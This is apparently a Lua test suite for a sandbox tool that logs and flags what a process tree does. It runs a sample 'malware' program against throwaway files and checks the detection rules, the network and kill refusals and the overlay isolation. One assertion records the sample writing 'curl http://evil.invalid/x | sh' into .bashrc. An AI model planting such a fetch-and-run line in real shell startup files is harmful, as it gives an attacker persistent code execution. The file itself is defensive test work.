-- scripts/semu.lua: the behaviour log of a process tree (validated against
-- docs/semu.schema.json with python3-jsonschema), the sample "malware"
-- tree (spec/semu/), the sandbox, the rules, the syscall filter.
local h = require "spec.util.helper"
local sh, q = h.sh, h.quote
local tmp = h.tmpdir()
teardown(function() sh("rm -rf " .. q(tmp)) end)

package.path = h.root .. "/lua/?.lua;" .. package.path
local json = require "lurk.json"

local SCHEMA = h.root .. "/docs/semu.schema.json"
local function validate(path)
  local out = h.capture("python3 " .. q(h.root .. "/spec/util/semu_validate.py") .. " " .. q(SCHEMA) .. " " .. q(path) .. " 2>&1")
  return out
end

local function read_log(path)
  local s = assert(h.slurp(path), "no log at " .. path)
  return json.decode(s)
end

local function find(doc, pred)
  local out = {}
  for _, e in ipairs(doc.events) do if pred(e) then out[#out + 1] = e end end
  return out
end

local mw = h.gcc(tmp .. "/malware", "-O2", h.root .. "/spec/semu/malware.c")

-- A fresh real tree for the sample: HOME with a .bashrc, a work dir with victims.
local function fresh(dir)
  sh("rm -rf " .. q(dir) .. "; mkdir -p " .. q(dir .. "/home") .. " " .. q(dir .. "/work"))
  sh("echo 'alias ll=ls' > " .. q(dir .. "/home/.bashrc"))
  for i = 1, 5 do sh("echo " .. i .. " > " .. q(dir .. "/work/victim" .. i .. ".txt")) end
  sh("echo keep > " .. q(dir .. "/work/keep.txt"))
end

local function tree_hash(dir)
  return h.capture("cd " .. q(dir) .. " && find . -print0 | sort -z | xargs -0 -I{} sh -c 'if [ -f \"{}\" ]; then sha256sum \"{}\"; else echo \"dir {}\"; fi' | sha256sum")
end

local function run_malware(dir, extra)
  local drop = dir .. "-drop"
  sh("rm -f " .. q(drop))
  local args = { "semu", "--report", dir .. ".json" }
  for _, a in ipairs(extra or {}) do args[#args + 1] = a end
  for _, a in ipairs({ "--", h.root .. "/spec/semu/malware.sh", mw, dir .. "/work", "9", drop }) do args[#args + 1] = a end
  local r = h.run(args, { env = "HOME=" .. q(dir .. "/home"), cwd = dir })
  return r, dir .. ".json", drop
end

describe("semu behaviour log", function()
  it("logs a shell's tree with processes, exit statuses and resolved paths", function()
    local log = tmp .. "/sh.json"
    sh("mkdir -p " .. q(tmp .. "/shd"))
    local r = h.run({ "semu", "--report", log, "--", "sh", "-c", "echo x > rel.txt; rm rel.txt; ls /nonexistent-semu; exit 3" }, { cwd = tmp .. "/shd" })
    assert.equal(3, r.status)
    assert.equal("valid\n", validate(log))
    local doc = read_log(log)
    assert.equal(3, #doc.processes)
    local root = doc.processes[1]
    assert.equal(doc.semu.root, root.pid)
    assert.equal(3, root.exit.status)
    assert.same({ "sh", "-c", "echo x > rel.txt; rm rel.txt; ls /nonexistent-semu; exit 3" }, root.argv)
    local ls
    for _, p in ipairs(doc.processes) do if p.argv[1] == "ls" then ls = p end end
    assert.equal(2, ls.exit.status)            -- ls's own status for a missing file
    assert.equal(root.pid, ls.parent)
    local opens = find(doc, function(e) return e.call == "openat" and e.args.path == tmp .. "/shd/rel.txt" end)
    assert.equal(1, #opens)                    -- relative path resolved against the cwd
    assert.equal("O_WRONLY|O_CREAT|O_TRUNC", opens[1].args.flags)
    local un = find(doc, function(e) return e.call == "unlinkat" and e.args.path == tmp .. "/shd/rel.txt" end)
    assert.equal(1, #un)
    assert.equal(0, un[1].result)
    local ex = {}
    for _, x in ipairs(doc.executables) do ex[x.path] = x end
    local lsx = ex[ls.exe]
    assert.truthy(lsx and lsx.interpreter)
    local needed = h.capture("readelf -d " .. q(ls.exe) .. " | grep -c NEEDED")
    assert.equal(tonumber(needed), #lsx.needed)
    local und = h.capture("readelf --dyn-syms -W " .. q(ls.exe) .. " | awk '$7==\"UND\" && $8!=\"\"' | wc -l")
    assert.equal(tonumber(und), #lsx.imports)
  end)

  it("the validator refuses a log that breaks the schema", function()
    local log = tmp .. "/sh.json"
    local doc = read_log(log)
    doc.events[1].category = "bogus"
    local bad = h.tmpfile(json.encode(doc), ".json")
    assert.matches("invalid", validate(bad))
    os.remove(bad)
  end)

  it("the sample malware tree: every event, with arguments and results; rules", function()
    local dir = tmp .. "/mw1"
    fresh(dir)
    local r, log, drop = run_malware(dir, { "--allow-kill" })
    assert.equal(0, r.status, r.stderr)
    assert.equal("valid\n", validate(log))
    local doc = read_log(log)
    local function one(pred, what)
      local t = find(doc, pred)
      assert(#t >= 1, "no event: " .. what)
      return t[1]
    end
    local rc = one(function(e) return e.call == "openat" and e.args.path == dir .. "/home/.bashrc" end, ".bashrc")
    assert.matches("O_APPEND", rc.args.flags)
    one(function(e) return e.call == "write" and e.args.file == dir .. "/home/.bashrc" and e.result == 32 end, "write .bashrc")
    one(function(e) return e.call == "openat" and e.args.path == drop and e.args.flags:match("O_CREAT") end, "drop")
    local cp = one(function(e) return e.call == "execve" and e.args.argv[1] == "cp" end, "execve cp")
    assert.same({ "cp", mw, drop }, cp.args.argv)
    assert.equal(0, cp.result)
    local ex = one(function(e) return e.call == "execve" and e.args.path == drop end, "execve drop")
    assert.equal(0, ex.result)
    assert.same({ drop, dir .. "/work", "9" }, ex.args.argv)
    for i = 1, 5 do
      local u = one(function(e) return e.call == "unlink" and e.args.path == dir .. "/work/victim" .. i .. ".txt" end, "unlink")
      assert.equal(0, u.result)
    end
    local rn = one(function(e) return e.call == "rename" end, "rename")
    assert.equal(dir .. "/work/keep.txt", rn.args.from)
    assert.equal(dir .. "/work/renamed.txt", rn.args.to)
    local c = one(function(e) return e.call == "connect" end, "connect")
    assert.same({ family = "AF_INET", address = "127.0.0.1", port = 9 }, c.args.addr)
    assert.equal("ECONNREFUSED", c.error)
    local m = one(function(e) return e.call == "mprotect" end, "mprotect")
    assert.equal("PROT_READ|PROT_WRITE|PROT_EXEC", m.args.prot)
    assert.equal(0, m.result)
    -- the child that deleted is a fork of the dropped program, in the tree
    local child = doc.processes[#doc.processes]
    assert.equal("fork", child.how)
    assert.equal(doc.semu.root, child.parent)
    assert.equal(drop, child.exe)
    local v = {}
    for _, x in ipairs(doc.verdicts) do v[x.rule] = x.matched end
    assert.same({ drops_and_runs = true, writes_shell_startup = true, connects_network = true,
                  deletes_many_files = true, makes_memory_executable = true }, v)
  end)

  it("rules give no verdict on a harmless program", function()
    local log = tmp .. "/true.json"
    assert.equal(0, h.run({ "semu", "--report", log, "--", "/bin/true" }).status)
    for _, x in ipairs(read_log(log).verdicts) do assert.is_false(x.matched, x.rule) end
  end)

  it("--rules runs a rule file of one's own; a broken rule is reported", function()
    local rule = h.tmpfile([[
      return { name = "creates_x", description = "creates a file named x",
               check = function(doc)
                 local ev = {}
                 for _, e in ipairs(doc.events) do
                   if e.call == "openat" and (e.args.path or ""):match("/x$") then ev[#ev + 1] = e.id end
                 end
                 return #ev > 0, ev
               end }]], ".lua")
    local log = tmp .. "/rules.json"
    sh("mkdir -p " .. q(tmp .. "/rulesd"))
    local r = h.run({ "semu", "--report", log, "--rules", rule, "--", "sh", "-c", "echo > x" }, { cwd = tmp .. "/rulesd" })
    assert.equal(0, r.status, r.stderr)
    local v = read_log(log).verdicts
    assert.equal(1, #v)
    assert.equal("creates_x", v[1].rule)
    assert.is_true(v[1].matched)
    local bad = h.tmpfile("return { check = 42 }", ".lua")
    r = h.run({ "semu", "--report", log, "--rules", bad, "--", "/bin/true" })
    assert.matches("semu: .*a rule returns { name, description, check = function%(doc%) }", r.stderr)
    assert.equal("valid\n", validate(log))
    os.remove(rule)
    os.remove(bad)
  end)

  it("bad options are clear errors", function()
    local r = h.run({ "semu", "--net", "maybe", "--", "/bin/true" })
    assert.not_equal(0, r.status)
    assert.matches("semu: option '%-%-net' must be allow or deny", r.stderr)
    r = h.run({ "semu", "--timeout", "x", "--", "/bin/true" })
    assert.not_equal(0, r.status)
    assert.matches("needs a number of seconds", r.stderr)
  end)
end)

describe("syscall filter (lurk.on's only)", function()
  local prog = h.gcc(tmp .. "/getppid", "-O2", h.root .. "/spec/lua/semu_getppid.c")
  local have_strace = sh("strace -o /dev/null /bin/true >/dev/null 2>&1") == 0

  it("a filtered handler sees only its calls; an unfiltered one sees all", function()
    local r = h.eval([[
      local f, all, post = {}, {}, 0
      lurk.on("syscall_pre", function(e) f[e.name] = (f[e.name] or 0) + 1 end, { only = { "getppid", 39 } })
      lurk.on("syscall_pre", function(e) all[e.name] = (all[e.name] or 0) + 1 end)
      lurk.on("syscall_post", function(e) assert(e.name == "getppid") post = post + 1 end, { only = { "getppid" } })
      lurk.on("exit", function()
        local names = {}
        for k in pairs(f) do names[#names + 1] = k end
        table.sort(names)
        print(table.concat(names, ","), f.getppid, f.getpid, all.getppid, all.getpid, post)
      end)]], { prog })
    assert.equal(0, r.status, r.stderr)
    assert.equal("getpid,getppid\t1000\t10\t1000\t10\t1000\n", r.stderr)
  end)

  it("counts equal strace -c -f's for the filtered calls", function()
    if not have_strace then pending("strace cannot run here") return end
    local out = tmp .. "/strace.txt"
    sh("strace -f -c -o " .. q(out) .. " -e trace=getppid " .. q(prog))
    local n = tonumber(h.slurp(out):match("(%d+)%s+getppid"))
    local r = h.eval([[local n = 0
      lurk.on("syscall_pre", function() n = n + 1 end, { only = { "getppid" } })
      lurk.on("exit", function() print(n) end)]], { prog })
    assert.equal(n .. "\n", r.stderr)
  end)

  it("bad filters raise", function()
    local r = h.eval([[lurk.on("syscall_pre", function() end, { only = { "nosuchcall" } })]])
    assert.matches("bad argument #3 to 'on' %(unknown system call 'nosuchcall' in 'only'%)", r.stderr)
    r = h.eval([[lurk.on("exit", function() end, { only = { "read" } })]])
    assert.matches("only 'syscall_pre' and 'syscall_post' handlers have 'only'", r.stderr)
    r = h.eval([[lurk.on("syscall_pre", function() end, { only = "read" })]])
    assert.matches("'only' must be a list", r.stderr)
  end)
end)

describe("semu sandbox: kill and network", function()
  it("kill outside the tree is refused (EPERM) and logged; inside it works", function()
    local log = tmp .. "/kill.json"
    -- sleep outside the tree (started by the spec), then the program tries to kill it
    local victim = tonumber(h.capture("sleep 30 >/dev/null 2>&1 & echo $!"))
    local r = h.run({ "semu", "--report", log, "--", "sh", "-c",
      -- (the in-tree victim is killed once it runs sleep: a signal sent to a
      -- child between fork and exec is lost under lurk, null tool included:
      -- a known engine bug, docs/decisions.md "semu")
      "kill " .. victim .. "; echo out=$?; sleep 30 & while [ \"$(readlink /proc/$!/exe)\" != " ..
      h.capture("readlink -f /bin/sleep"):gsub("\n", "") .. " ]; do :; done; kill $!; wait $!; echo in=$?" })
    local alive = sh("kill -0 " .. victim .. " 2>/dev/null") == 0
    sh("kill " .. victim .. " 2>/dev/null")
    assert.is_true(alive)
    assert.matches("out=1\nin=143\n", r.stdout)
    assert.equal("valid\n", validate(log))
    local doc = read_log(log)
    local k = find(doc, function(e) return e.call == "kill" and e.args.pid == victim end)
    assert.equal(1, #k)
    assert.equal("EPERM", k[1].error)
    assert.equal("outside the tree", k[1].refused)
    local inside = find(doc, function(e) return e.call == "kill" and e.args.pid ~= victim end)
    assert.equal(1, #inside)
    assert.equal(0, inside[1].result)
  end)

  it("--net deny fails connect with the chosen errno and logs it", function()
    local dir = tmp .. "/mw2"
    fresh(dir)
    local r, log = run_malware(dir, { "--net", "deny=ENETUNREACH" })
    assert.equal(0, r.status, r.stderr)
    assert.equal("valid\n", validate(log))
    local c = find(read_log(log), function(e) return e.call == "connect" end)
    assert.equal(1, #c)
    assert.equal("ENETUNREACH", c[1].error)
    assert.equal("network denied", c[1].refused)
  end)

  it("--sandbox without --overlay is refused", function()
    local r = h.run({ "semu", "--sandbox", "/tmp", "--", "/bin/true" })
    assert.not_equal(0, r.status)
    assert.matches("semu: option '%-%-sandbox' needs '%-%-overlay DIR'", r.stderr)
  end)
end)

describe("lurk.now/sleep/ppid/mkdir/readlink/dir/kill", function()
  it("work on raw syscalls and report failures as nil, msg, errno", function()
    local d = tmp .. "/sysd"
    local r = h.eval(string.format([[
      local t0 = lurk.now(); lurk.sleep(0.05); local dt = lurk.now() - t0
      print(dt >= 0.05 and dt < 5, lurk.ppid() > 1, lurk.mkdir(%q))
      print(select(3, lurk.mkdir(%q)))
      local names = lurk.dir(%q); table.sort(names)
      print(#names, lurk.readlink("/proc/self/cwd") == %q, lurk.kill(lurk.pid(), 0))
      print(select(3, lurk.readlink("/nonexistent")), select(3, lurk.kill(999999999, 0)))
      print(pcall(lurk.kill, 1, 99))]], d, d, h.root .. "/spec/semu", h.root))
    assert.equal(0, r.status, r.stderr)
    local names = h.capture("ls -A " .. q(h.root .. "/spec/semu") .. " | wc -l"):match("%d+")
    assert.equal("true\ttrue\ttrue\n17\n" .. names .. "\ttrue\ttrue\n2\t3\nfalse\tbad argument #2 to '?' (signal out of range)\n", r.stderr)
    assert.equal(0, sh("test -d " .. q(d)))
  end)
end)

describe("semu watchdog and nudge", function()
  local function nap() sh("sleep 0.05") end

  it("lurk nudge PID 'semu.stop()' stops the tree cleanly (with --ctl)", function()
    local log, pidf = tmp .. "/cnudge.json", tmp .. "/cnudge.pid"
    local uid = h.capture("id -u"):match("%d+")
    local cmd = string.format("(%s run --ctl semu --report %s -- sh -c 'sleep 30; echo after' & echo $! > %s; wait $!; echo status=$? > %s.st)",
      q(h.lurk), q(log), q(pidf), q(pidf))
    local job = io.popen(cmd .. " >/dev/null 2>&1 &")
    job:close()
    local pid
    repeat nap() pid = (h.slurp(pidf) or ""):match("%d+") until pid
    repeat nap() until h.capture("pgrep -P " .. pid .. " -x sleep") ~= ""
    assert.equal(0, sh("test -e /tmp/lurk-" .. uid .. "/" .. pid))
    sh(q(h.lurk) .. " nudge " .. pid .. " 'semu.stop()' >/dev/null 2>&1")
    local st
    repeat nap() st = h.slurp(pidf .. ".st") until st and st:match("\n")
    assert.equal("status=143\n", st)
    assert.equal("valid\n", validate(log))
    local doc = read_log(log)
    assert.is_table(doc.semu.nudge)
    assert.equal("SIGKILL", doc.processes[2].exit.signal)
  end)

  local function live(pids)
    local n = 0
    for _, pid in ipairs(pids) do
      local st = h.slurp("/proc/" .. pid .. "/stat")
      local state = st and st:match("%) (%a)")
      if state and state ~= "Z" and st:match("%(forktree%)") then n = n + 1 end
    end
    return n
  end

  it("--timeout stops an endless tree of busy children with a complete, valid log", function()
    local prog = h.gcc(tmp .. "/forktree", "-O2", h.root .. "/spec/semu/forktree.c")
    local log = tmp .. "/wd.json"
    local r = h.run({ "semu", "--report", log, "--timeout", "1", "--", prog })
    assert.equal(124, r.status, r.stderr)
    assert.equal("valid\n", validate(log))
    local doc = read_log(log)
    assert.equal(1, doc.semu.watchdog.timeout)
    assert.is_true(doc.semu.watchdog.t >= doc.semu.start + 1)
    assert.is_true(#doc.processes > 2)
    local pids = {}
    for _, p in ipairs(doc.processes) do
      assert.is_table(p.exit, "no end for " .. p.pid)
      pids[#pids + 1] = p.pid
    end
    assert.equal(124, doc.processes[1].exit.status)
    assert.equal("SIGKILL", doc.processes[2].exit.signal)
    assert.equal(0, live(pids))
  end)

  it("SIGTERM to the root stops the tree cleanly (the nudge)", function()
    local log, pidf = tmp .. "/nudge.json", tmp .. "/nudge.pid"
    local uid = h.capture("id -u"):match("%d+")
    local cmd = string.format("(%s run semu --report %s -- sh -c 'sleep 30; echo after' & echo $! > %s; wait $!; echo status=$? > %s.st)",
      q(h.lurk), q(log), q(pidf), q(pidf))
    local job = io.popen(cmd .. " >/dev/null 2>&1 &")
    job:close()
    local pid
    repeat nap() pid = (h.slurp(pidf) or ""):match("%d+") until pid
    -- the root is set up once its member file exists, and its child once it runs sleep
    repeat nap() until h.slurp("/tmp/lurk-semu-" .. uid .. "/pid." .. pid)
    repeat nap() until h.capture("pgrep -P " .. pid .. " -x sleep") ~= ""
    sh("kill -TERM " .. pid)
    local st
    repeat nap() st = h.slurp(pidf .. ".st") until st and st:match("\n")
    assert.equal("status=143\n", st)
    assert.equal("valid\n", validate(log))
    local doc = read_log(log)
    assert.is_table(doc.semu.nudge)
    assert.equal(143, doc.processes[1].exit.status)
    assert.equal("SIGKILL", doc.processes[2].exit.signal)
  end)
end)

-- -- The overlay -------------------------------------------------------------------
-- A directory's files as { relative path = sha256 } (symlinks as "link:TARGET").
local function files(dir)
  local t = {}
  local out = h.capture("cd " .. q(dir) .. " 2>/dev/null && find . \\( -type f -o -type l \\) -print0 | sort -z | " ..
    "xargs -0 -r -I{} sh -c 'if [ -L \"{}\" ]; then echo \"{} link:$(readlink \"{}\")\"; else echo \"{} $(sha256sum < \"{}\" | cut -c1-16)\"; fi'")
  for p, hsh in out:gmatch("%./([^\n]-) (%S+)\n") do t[p] = hsh end
  return t
end

-- Run script (sh -c) in dir natively and under semu with an overlay, from the
-- same starting tree made by setup; returns both results and the file maps.
local function both(name, setup, script, opts)
  opts = opts or {}
  local dir = tmp .. "/" .. name
  local ov = tmp .. "/" .. name .. ".ov"
  local env = "HOME=" .. q(tmp .. "/home-" .. name) .. " " .. (opts.env or "")
  local function reset()
    sh("rm -rf " .. q(dir) .. " " .. q(ov) .. " " .. q(tmp .. "/home-" .. name) .. "; mkdir -p " .. q(dir) .. " " .. q(tmp .. "/home-" .. name))
    setup(dir)
  end
  reset()
  local before = files(dir)
  local nat = h.capture("cd " .. q(dir) .. " && " .. env .. " sh -c " .. q(script) .. " 2>&1; echo status=$?")
  local native = files(dir)
  reset()
  local r = h.run({ "semu", "--report", tmp .. "/" .. name .. ".json", "--overlay", ov, "--sandbox", dir, "--", "sh", "-c", script },
    { cwd = dir, env = env })
  local under = (r.stdout .. r.stderr) .. "status=" .. r.status .. "\n"
  return { native_out = nat, semu_out = under, before = before, native = native, real = files(dir),
           upper = files(ov .. dir), ov = ov, dir = dir, log = tmp .. "/" .. name .. ".json" }
end

-- The overlay must hold exactly the files native created or changed, and a
-- whiteout for each file native deleted.
local function check_overlay(x, ignore)
  ignore = ignore or {}
  local want, got = {}, {}
  for p, hs in pairs(x.native) do
    if x.before[p] ~= hs and not ignore[p] then want[p] = hs end
  end
  for p, hs in pairs(x.upper) do if not ignore[p] then got[p] = hs end end
  for p in pairs(ignore) do
    if x.native[p] and x.before[p] ~= x.native[p] then assert.truthy(x.upper[p], "missing in the overlay: " .. p) end
  end
  assert.same(want, got)
  local wh = files(x.ov .. "/.semu-wh" .. x.dir)
  local deleted = {}
  for p in pairs(x.before) do if not x.native[p] then deleted[p] = true end end
  local whs = {}
  for p in pairs(wh) do
    local d, n = p:match("^(.-)%.wh%.([^/]*)$")
    if d and x.before[d .. n] then whs[d .. n] = true end
  end
  assert.same(deleted, whs)
  assert.same(x.before, x.real)     -- the real tree is unchanged
end

describe("semu overlay", function()
  it("the sample malware: real tree byte-for-byte unchanged, the overlay holds the changes", function()
    local dir = tmp .. "/mw3"
    fresh(dir)
    local hb = tree_hash(dir)
    local r, log, drop = run_malware(dir, { "--overlay", tmp .. "/mw3.ov" })
    assert.equal(0, r.status, r.stderr)
    assert.equal(hb, tree_hash(dir))
    assert.equal(1, sh("test -e " .. q(drop)))                 -- not dropped for real
    local ov = tmp .. "/mw3.ov"
    assert.equal(0, sh("cmp -s " .. q(mw) .. " " .. q(ov .. drop)))
    assert.equal("alias ll=ls\ncurl http://evil.invalid/x | sh\n", h.slurp(ov .. dir .. "/home/.bashrc"))
    assert.equal("keep\n", h.slurp(ov .. dir .. "/work/renamed.txt"))
    for i = 1, 5 do assert.equal(0, sh("test -f " .. q(ov .. "/.semu-wh" .. dir .. "/work/.wh.victim" .. i .. ".txt"))) end
    assert.equal(0, sh("test -f " .. q(ov .. "/.semu-wh" .. dir .. "/work/.wh.keep.txt")))
    assert.equal("valid\n", validate(log))
    local v = {}
    for _, x in ipairs(read_log(log).verdicts) do v[x.rule] = x.matched end
    assert.same({ drops_and_runs = true, writes_shell_startup = true, connects_network = true,
                  deletes_many_files = true, makes_memory_executable = true }, v)
  end)

  it("the program sees a consistent view: deletes, renames, creates, listings, cwd", function()
    local x = both("view", function(d)
      sh("cd " .. q(d) .. " && mkdir -p sub/deep && echo a > a && echo b > sub/b && echo c > sub/deep/c && ln -s a lnk")
    end, [[
      rm a; ls; cat a 2>&1; echo new > g; mv g h; cat h; ls -a sub
      mkdir d && cd d && pwd && echo x > x && ls && cd .. && rm -r d sub/deep; ls -R
      echo more >> sub/b; cat sub/b; chmod 600 sub/b; stat -c %a sub/b; ls -l lnk | cut -c1
      mkdir sub 2>&1; rmdir sub 2>&1; test -e a || echo gone]])
    assert.equal(x.native_out:gsub(tmp, "TMP"), x.semu_out:gsub(tmp, "TMP"))
    check_overlay(x)
  end)

  it("tar xzf: the same output, the overlay holds what native wrote", function()
    -- the archive's members carry no time of their own (--mtime=@0): both
    -- setups make the same t.tgz even a second apart, as the check of the
    -- real tree (unchanged since the first setup) needs
    local x = both("tar", function(d)
      sh("cd " .. q(d) .. " && mkdir -p src/a/b && echo 1 > src/a/one && echo 2 > src/a/b/two && chmod 755 src/a/one && " ..
         "ln -s one src/a/l && tar --mtime=@0 -czf t.tgz src && rm -r src")
    end, "tar xzvf t.tgz && ls -lR src | sed 's/  */ /g' | cut -d' ' -f1,5,9-")
    assert.equal(x.native_out, x.semu_out)
    check_overlay(x)
  end)

  it("git init && git commit: the same output, the overlay holds what native wrote", function()
    if sh("command -v git >/dev/null") ~= 0 then pending("no git") return end
    local env = "GIT_AUTHOR_NAME=t GIT_AUTHOR_EMAIL=t@x GIT_COMMITTER_NAME=t GIT_COMMITTER_EMAIL=t@x " ..
      "GIT_AUTHOR_DATE='2020-01-01T00:00:00Z' GIT_COMMITTER_DATE='2020-01-01T00:00:00Z' GIT_CONFIG_NOSYSTEM=1"
    local x = both("git", function(d)
      sh("cd " .. q(d) .. " && echo hello > f.txt && mkdir s && echo x > s/y")
    end, "git init -q -b main . && git add . && git commit -q -m first && git log --oneline && git status --short", { env = env })
    assert.equal(x.native_out, x.semu_out)
    -- the index records inode numbers and times: present, content not compared
    check_overlay(x, { [".git/index"] = true })
  end)

  it("make of a small C project: the same output, the overlay holds what native wrote", function()
    local x = both("make", function(d)
      for i = 1, 4 do
        local f = io.open(d .. "/f" .. i .. ".c", "w")
        f:write(string.format("int f%d(int x) { return x * %d; }\n", i, i))
        f:close()
      end
      local f = io.open(d .. "/main.c", "w")
      f:write("#include <stdio.h>\nint f1(int),f2(int),f3(int),f4(int);\nint main(void){printf(\"%d\\n\",f1(1)+f2(1)+f3(1)+f4(1));return 0;}\n")
      f:close()
      f = io.open(d .. "/Makefile", "w")
      f:write("OBJS=main.o f1.o f2.o f3.o f4.o\nprog: $(OBJS)\n\tcc -o $@ $(OBJS)\n%.o: %.c\n\tcc -O2 -c $<\n")
      f:close()
    end, "make -j2 -s && ./prog && make -s && rm f4.o && make && ./prog")
    assert.equal(x.native_out, x.semu_out)
    check_overlay(x)
  end)
end)
